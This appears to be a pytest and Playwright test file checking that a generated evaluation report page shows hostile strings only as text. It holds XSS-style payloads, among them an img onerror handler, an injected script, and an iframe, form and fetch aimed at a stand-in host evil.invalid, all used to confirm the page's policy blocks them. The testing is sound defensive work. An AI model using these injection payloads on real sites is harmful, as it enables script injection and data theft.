"""Every text of the document and of a response set is hostile at once, not the responses alone."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from diversity_eval.report.document import document
from diversity_eval.report.page import write_page
from tests.report.comparisons import comparison
from tests.report.page.conftest import Opened
from tests.report.page.hostile import HOSTILE, as_shown
from tests.report.page.sample import response_set
from tests.report.page.test_hostile import check

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("browser")]
Visit = Callable[..., Opened]

SHORT = [text for text in HOSTILE.values() if text.strip() and len(text) < 700]
# What the page looks things up by, or that has a fixed set of values.
KEPT = {"key", "column", "role", "created", "diversity", "quality"}


@dataclass(frozen=True)
class HostileFigure:
    id: str
    title: str
    caption: str
    alt: str
    svg: str
    headers: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]


def hostile(value: Any, texts: Iterator[str], inside: str = "") -> Any:
    """The same with every text replaced, and every key that is not the schema's."""
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, list):
        return [hostile(each, texts) for each in value]
    if isinstance(value, Mapping):
        free = inside in ("provenance", "signature")
        return {
            next(texts) if free else name: of if name in KEPT and not free else hostile(of, texts, name)
            for name, of in value.items()
        }
    return value


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = document(comparison())
    made["columns"][0]["notes"], made["columns"][0]["variant"] = SHORT[:3], "x"
    made["rows"].append({**made["rows"][1], "members": ["a", "b"], "loss": "z"})
    made["cells"][0]["marks"] = ["x", "y"]
    made["published"] = [
        {"reference": "r", "table": "t", "dataset": "d", "model": "m", "loss": "l", "setting": "s",
         "column": made["columns"][0]["key"], "mean": 1.0, "std": None}
    ]  # fmt: skip
    texts = cycle(SHORT)
    made = hostile(made, texts)
    made["warnings"], made["summary"] = SHORT, SHORT[:5]
    labels = [made["rows"][0]["label"], made["rows"][1]["label"]]
    of = response_set([[SHORT], [SHORT[::-1]]], labels=labels, prompts=SHORT[:1], title="__proto__")
    of["sources"][0]["variant"] = HOSTILE["right-to-left override"]
    of["prompts"][0]["key"] = HOSTILE["image with onerror"]
    other = {**of, "task_title": HOSTILE["script closing the data block"]}
    svg = (
        '<svg viewBox="0 0 9 9"><path class="row-0" d="M0 0h4v4z"/><path class="row-1" d="M4 4h4v4z"/></svg>'
    )
    figures = [
        HostileFigure(f"f{n}", text, text, text, svg, (text, text), ((text, text),))
        for n, text in enumerate(SHORT)
    ]
    path = tmp_path_factory.mktemp("attacked") / "r.html"
    write_page(path, made, figures=figures, responses=[of, other])
    return path


def headings(page: Page) -> list[str]:
    return page.locator("#board tr.tasks th[colspan]").all_text_contents()


def test_all_of_it_is_text(attacked: Path, visit: Visit) -> None:
    opened = visit(attacked)
    page = opened.page
    assert page.locator("#warnings .note").all_text_contents() == list(map(as_shown, SHORT))
    assert page.locator("#sentences p").all_text_contents() == list(map(as_shown, SHORT[:5]))
    known = set(map(as_shown, SHORT))
    assert set(page.locator("#board .name").all_text_contents()) <= known
    assert headings(page)
    assert set(headings(page)) <= known
    expect(page.locator(".panel")).to_have_count(len(SHORT))
    page.get_by_label("All metrics").check()
    for place in range(page.locator("#board .about button").count()):
        page.locator("#board .about button").nth(place).click()
        for summary in page.locator("#details summary").all():
            summary.click()
        for text in page.locator("#details dt").all_text_contents()[-2:]:  # provenance
            assert text in known
        page.keyboard.press("Escape")
    for place in range(0, page.locator("#board td button").count(), 3):
        page.locator("#board td button").nth(place).click()
        page.keyboard.press("Escape")
    for button in page.locator("#pointing button").all():
        button.click()
    page.locator("#responses").scroll_into_view_if_needed()
    expect(page.locator(".side")).to_have_count(2)
    expect(page.locator("#reading h3")).to_have_text(f"Prompt {HOSTILE['image with onerror']}")
    assert page.locator(".side").first.locator(".response").count() == len(SHORT)
    tasks = page.get_by_label("Task", exact=True).locator("option").all_text_contents()
    assert tasks == ["__proto__", HOSTILE["script closing the data block"]]
    page.get_by_label("Task", exact=True).select_option(index=1)
    expect(page.locator(".side")).to_have_count(2)
    check(opened, attacked)
    assert opened.errors == []


def test_piled_up_accents_stay_in_their_own_box(attacked: Path, visit: Visit) -> None:
    page = visit(attacked).page
    page.locator("#responses").scroll_into_view_if_needed()
    expect(page.locator(".side")).to_have_count(2)
    loose = page.evaluate(
        """() => {
          const found = [];
          const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
          while (walker.nextNode()) {
            if (!walker.currentNode.data.includes('z\\u0301\\u0316\\u0337\\u0301')) continue;
            let box = walker.currentNode.parentElement;
            if (box.closest('noscript, option, svg') || !box.checkVisibility()) continue;
            const style = (e) => getComputedStyle(e);
            const kept = (e) => style(e).overflowY !== 'visible' || style(e).contain.includes('paint');
            const whole = 'main, section, fieldset, tr, ol';
            while (!box.matches(whole) && !kept(box)) box = box.parentElement;
            if (box.matches(whole)) found.push(walker.currentNode.parentElement.outerHTML.slice(0, 80));
          }
          return found;
        }"""
    )
    assert loose == []


def test_the_policy_stops_what_would_be_markup_all_the_same(attacked: Path, visit: Visit) -> None:
    opened = visit(attacked)
    refused = opened.page.evaluate(
        """async () => {
          const made = document.createElement('div');
          made.innerHTML = '<img src=x onerror="window.__pwned=1"><iframe src="https://evil.invalid/"></iframe>'
            + '<form id="sent" action="https://evil.invalid/"></form>';
          document.body.append(made);
          const script = document.createElement('script');
          script.textContent = 'window.__pwned = 1';
          document.body.append(script);
          const styled = document.createElement('p');
          styled.setAttribute('style', 'position: fixed');
          document.body.append(styled);
          document.getElementById('sent').submit();
          const fetched = await fetch('https://evil.invalid/').then(() => 'fetched', () => 'refused');
          await new Promise((done) => setTimeout(done, 200));
          return [fetched, getComputedStyle(styled).position];
        }"""
    )
    assert refused == ["refused", "static"]
    assert opened.page.evaluate("window.__pwned") is None
    assert [each for each in opened.requests if not each.startswith("file:")] == []
    assert opened.page.url == f"file://{attacked}"


def test_on_a_phone_nothing_sticks_out(attacked: Path, visit: Visit) -> None:
    page = visit(attacked, viewport={"width": 360, "height": 800}).page
    page.locator("#responses").scroll_into_view_if_needed()
    expect(page.locator(".side")).to_have_count(2)
    assert page.evaluate("document.documentElement.scrollWidth") == 360


def test_without_a_script_all_of_it_is_text_too(attacked: Path, chromium: Any) -> None:
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(f"file://{attacked}")
    foreign = (
        "script[src],iframe,object,embed,img,link,base,form,meta[http-equiv=refresh],marquee,math,b,input"
    )
    assert page.locator(foreign).count() == 0
    expect(page.locator("noscript table")).to_have_count(1)
    assert requests == [f"file://{attacked}"]
    context.close()
